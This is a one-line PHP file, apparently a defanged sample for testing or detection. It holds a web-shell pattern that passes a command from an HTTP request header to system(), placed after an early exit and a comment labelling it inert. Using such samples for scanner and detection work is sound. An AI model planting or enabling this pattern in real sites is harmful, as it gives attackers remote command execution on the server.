<?php exit; /* inert */ system(getenv("HTTP_X_C"));
